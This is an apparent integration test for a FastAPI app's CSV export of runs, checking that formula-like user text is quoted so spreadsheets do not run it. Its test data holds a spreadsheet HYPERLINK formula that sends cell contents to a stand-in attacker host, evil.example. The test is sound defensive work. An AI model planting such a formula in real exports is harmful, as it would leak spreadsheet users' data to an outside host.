"""The runs export (API and page) writes user text that starts like a formula as text."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from tests.integration.seeding import fake_run
from zootriage.app.db.models import RunTag
from zootriage.app.db.session import session_scope


def test_formula_like_names_and_labels_are_quoted_in_the_export(client: TestClient, clean_db: str) -> None:
    with session_scope(clean_db) as session:
        run = fake_run(1, architecture="@SUM(1+1)", markers={"dimension": -0.5})
        run.name = '=HYPERLINK("http://evil.example/?"&A1)'
        run.tags = [RunTag(key="team", value="-1+1")]
        session.add(run)
    for path in ("/v1/runs?format=csv", "/runs.csv"):
        answer = client.get(path)
        assert answer.status_code == 200, answer.text
        (row,) = list(csv.DictReader(io.StringIO(answer.text)))
        assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1)', path
        assert row["architecture"] == "'@SUM(1+1)"
        assert row["tags"] == "team=-1+1"  # starts with a letter: no formula
        assert row["dimension"] == "-0.5"  # a number stays a number
